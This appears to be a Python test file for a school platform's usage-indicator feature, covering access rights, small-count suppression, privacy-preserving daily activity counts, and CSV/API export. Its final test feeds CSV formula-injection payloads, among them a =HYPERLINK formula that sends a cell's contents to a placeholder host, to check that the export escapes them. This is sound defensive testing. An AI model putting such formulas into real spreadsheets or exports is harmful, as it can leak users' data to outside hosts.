"""Indicators: the figures, who sees them (platform admin, an organisation's admins), pages, CSV, API,
and the per-day activity counter that keeps no identity past its day."""
from __future__ import annotations

from datetime import date, timedelta

import pytest
from sqlalchemy import select

from app import policy
from app.extensions import db
from app.models import DailyActivity, DailySeen
from app.models.institutions import Enrolment
from app.services import activity, indicators, orgs, tokens
from app.database import utcnow as utc_now
from app.services.errors import Forbidden
from tests.conftest import login
from tests.helpers import csrf_token


@pytest.fixture
def school(app, make_user):
    head = make_user("head@lycee.example")
    org = orgs.create_organisation(db.session, policy.OPERATOR, {"name": "Lycée Indicateurs", "kind": "school",
                                   "contact_email": "c@lycee.example"}, admin=head, approve=True)
    db.session.commit()
    return org, head


def _values(sections, key):
    return {k: v for s in sections if s.key == key for k, _l, v in s.rows}


def test_figures_for_the_platform_and_for_one_organisation(app, make_user, platform_admin, school):
    org, head = school
    make_user("pending@example.org", verified=False)
    outsider = make_user("outsider@example.org")
    sections = indicators.compute(db.session, platform_admin)
    assert _values(sections, "activation") == {"activated": 3, "pending": 1, "suspended": 0}
    # an institution's people are its activated enrolments, on the platform's page as on its own (audit 15, #3)
    assert _values(sections, "accounts_by_institution") == {str(org.id): 0}
    mine = indicators.compute(db.session, head, org=org)
    # Members are not the organisation's people (review 14, M4): only activated enrolments are.
    assert _values(mine, "activation") == {"activated": 0, "pending": 0, "suspended": 0}
    assert _values(mine, "members_by_role") == {"admin": 1}
    with pytest.raises(Forbidden):
        indicators.compute(db.session, outsider, org=org)
    with pytest.raises(Forbidden):
        indicators.compute(db.session, head)  # the platform's figures are the platform admin's


def test_a_person_counts_once_a_day_and_no_key_survives_the_day(app, user, school):
    org, head = school
    db.session.add(Enrolment(organisation_id=org.id, family_name="Martin", given_name="Léo", user_id=user.id))
    day = date(2026, 3, 2)
    assert activity.record(db.session, head, "sign_in", day=day) is True
    assert activity.record(db.session, head, "sign_in", day=day) is False
    assert activity.record(db.session, head, "api_use", day=day) is False
    activity.record(db.session, user, "api_use", day=day)
    db.session.commit()
    rows = {r.scope: (r.sign_ins, r.api_uses, r.active_people) for r in db.session.scalars(select(DailyActivity))}
    assert rows == {"": (2, 1, 2), str(org.id): (0, 1, 1)}  # the enrolled person's, not the member's
    keys = db.session.scalars(select(DailySeen.key)).all()
    assert len(keys) == 2 and not any(str(head.id) in k or str(user.id) in k for k in keys)
    activity.record(db.session, user, "sign_in", day=day + timedelta(days=1))
    db.session.commit()
    assert db.session.scalars(select(DailySeen.day)).all() == [day + timedelta(days=1)]  # yesterday's gone


def test_sign_in_and_token_use_are_counted(client, user):
    login(client, user.email)
    _token, raw = tokens.create_token(db.session, user, "cli")
    db.session.commit()
    client.get("/api/v1/profile", headers={"Authorization": f"Bearer {raw}"})
    client.get("/api/v1/profile", headers={"Authorization": f"Bearer {raw}"})
    row = db.session.get(DailyActivity, (activity.utcnow().date(), ""))
    assert (row.sign_ins, row.api_uses, row.active_people) == (1, 0, 1)  # same person, same day


def test_pages_csv_and_api_and_their_refusals(client, platform_admin, school, make_user):
    org, head = school
    login(client, head.email)
    assert client.get("/admin/indicators").status_code == 404
    page = client.get(f"/organisations/{org.id}/indicators?days=7")
    assert page.status_code == 200 and "<svg" in page.get_data(as_text=True)
    assert "<table" in page.get_data(as_text=True)
    client.post("/logout", data={"csrf_token": csrf_token(client.get("/settings"))})
    login(client, platform_admin.email)
    html = client.get("/admin/indicators?days=365").get_data(as_text=True)
    assert "Lycée Indicateurs" in html and html.count("<svg") >= 8
    csv_text = client.get("/admin/indicators?format=csv").get_data(as_text=True)
    assert csv_text.splitlines()[0] == "section,key,label,value" and "activation,activated," in csv_text
    assert client.get("/admin/audit").status_code == 200
    assert client.get("/admin/accounts?email=head@lycee.example").status_code == 200

    _t, admin_raw = tokens.create_token(db.session, platform_admin, "api")
    _t, head_raw = tokens.create_token(db.session, head, "api")
    other = make_user("other@example.org")
    _t, other_raw = tokens.create_token(db.session, other, "api")
    db.session.commit()
    auth = lambda raw: {"Authorization": f"Bearer {raw}"}  # noqa: E731
    body = client.get("/api/v1/admin/indicators?days=7", headers=auth(admin_raw)).get_json()
    assert body["days"] == 7 and body["indicators"]["activation"]["values"]["activated"] == 3
    refused = client.get("/api/v1/admin/indicators", headers=auth(head_raw))
    assert refused.status_code == 403 and refused.get_json()["error"] == "forbidden"
    assert client.get(f"/api/v1/orgs/{org.id}/indicators", headers=auth(head_raw)).status_code == 200
    assert client.get(f"/api/v1/orgs/{org.id}/indicators", headers=auth(other_raw)).status_code == 404
    bad = client.get("/api/v1/admin/indicators?days=12", headers=auth(admin_raw))
    assert bad.status_code == 400 and bad.get_json()["error"] == "invalid_period"
    put = client.put(f"/api/v1/admin/accounts/{other.id}/suspension", json={"reason": "abuse"},
                     headers=auth(admin_raw))
    assert put.status_code == 200 and put.get_json()["suspension_reason"] == "abuse"
    log = client.get("/api/v1/admin/audit?action=account.suspend", headers=auth(admin_raw)).get_json()
    assert [e["target_id"] for e in log] == [str(other.id)]


def test_an_institutions_people_activation_and_groups_come_from_its_enrolments(client, app, make_user,
                                                                                platform_admin):
    """The people of an institution are its members and its active enrolments' accounts; activated vs
    pending is read from the enrolments; heads get the same per group; teachers and other heads do not."""
    from app.models.institutions import Enrolment
    from app.services import institutions
    from tests.test_institutions import school as make_school
    org, head = make_school(make_user, "Collège Indicateurs")
    group = institutions.create_group(db.session, org, name="4e B")
    archived = institutions.create_group(db.session, org, name="Ancienne 3e")
    pupil, leaver = make_user("pupil@eleve.example"), make_user("leaver@eleve.example")
    db.session.add_all([
        Enrolment(organisation_id=org.id, group_id=group.id, family_name="A", given_name="A", user_id=pupil.id,
                  guardian_emails=[]),
        Enrolment(organisation_id=org.id, group_id=group.id, family_name="B", given_name="B", guardian_emails=[]),
        Enrolment(organisation_id=org.id, group_id=group.id, family_name="C", given_name="C", guardian_emails=[]),
        Enrolment(organisation_id=org.id, group_id=group.id, family_name="D", given_name="D", user_id=leaver.id,
                  guardian_emails=[], ended_at=utc_now())])
    teacher = make_user("prof@college.example")
    institutions.add_staff(db.session, org, group, email=teacher.email, role="teacher")
    institutions.share_with_group(db.session, pupil, group_id=group.id)
    institutions.archive_group(db.session, org, archived)
    db.session.commit()
    # The exact figures (a platform admin's view); the head sees the same with 1 to 4 as "<5" (review 14, M4).
    mine = indicators.compute(db.session, platform_admin, org=org)
    heads = indicators.compute(db.session, head, org=org)
    assert _values(heads, "activation") == {"activated": "<5", "pending": "<5", "suspended": 0}
    assert _values(heads, "group_pending") == {str(group.id): "<5"}
    assert _values(mine, "activation") == {"activated": 1, "pending": 2, "suspended": 0}
    assert _values(mine, "enrolments") == {"activated": 1, "pending": 2, "ended": 1}
    # the activated pupil only (members are not its people); the leaver's enrolment ended
    kinds = _values(mine, "accounts_by_kind")
    assert kinds["citizen"] + kinds["counsellor"] + kinds["platform_admin"] == 1  # the pupil only (M4)
    # what the institution's accounts are: its enrolled pupil; its staff (head, teacher) counted as staff
    assert (kinds["pupils"], kinds["guardians"], kinds["staff"], kinds["partners"]) == (1, 0, 2, 0)
    assert _values(mine, "group_activated") == {str(group.id): 1}
    assert _values(mine, "group_pending") == {str(group.id): 2}
    assert _values(mine, "group_shares") == {str(group.id): 1}  # archived groups are left out
    assert indicators.suppress_small(mine)[0].rows == heads[0].rows
    with pytest.raises(Forbidden):
        indicators.compute(db.session, teacher, org=org)
    other_org, other_head = make_school(make_user, "Collège Voisin")
    with pytest.raises(Forbidden):
        indicators.compute(db.session, other_head, org=org)
    login(client, head.email)
    page = client.get(f"/organisations/{org.id}/indicators")
    assert page.status_code == 200 and "4e B" in page.get_data(as_text=True)
    assert "Ancienne 3e" not in page.get_data(as_text=True)
    client.post("/logout", data={"csrf_token": csrf_token(client.get("/settings"))})
    login(client, teacher.email)
    assert client.get(f"/organisations/{org.id}/indicators").status_code == 404


def test_a_member_added_without_asking_is_not_singled_out(app, make_user, school):
    """Review 14, M4: adding a stranger as a member (partner, staff, issuer) and reading the indicators again
    tells nothing about them: neither their account figures nor the days they sign in."""
    org, head = school
    stranger = make_user("x@example.org")
    before = [(s.key, s.rows) for s in indicators.compute(db.session, head, org=org) if s.key != "members_by_role"]
    orgs.add_member(db.session, policy.OPERATOR, org, stranger.email, "issuer")
    db.session.commit()
    activity.record(db.session, stranger, "sign_in", day=date(2026, 3, 2))
    db.session.commit()
    after = [(s.key, s.rows) for s in indicators.compute(db.session, head, org=org) if s.key != "members_by_role"]
    assert after == before
    assert db.session.get(DailyActivity, (date(2026, 3, 2), str(org.id))) is None


def test_the_csv_never_carries_a_formula():
    """Review 14, L6: a group or organisation named like a formula is exported as text."""
    section = indicators.Section("groups", "Groups", [("1", '=HYPERLINK("https://x/?"&A1;"clic")', 3),
                                                    ("2", "+33 6", 1), ("3", "-1", 1), ("4", "@SUM(A1)", 1),
                                                    ("5", "\tTab", 1), ("6", "\rCR", 1), ("7", "4e B", 2)])
    labels = [row[2] for row in indicators.as_csv_rows([section])[1:]]
    assert labels == ['\'=HYPERLINK("https://x/?"&A1;"clic")', "'+33 6", "'-1", "'@SUM(A1)", "'\tTab", "'\rCR", "4e B"]
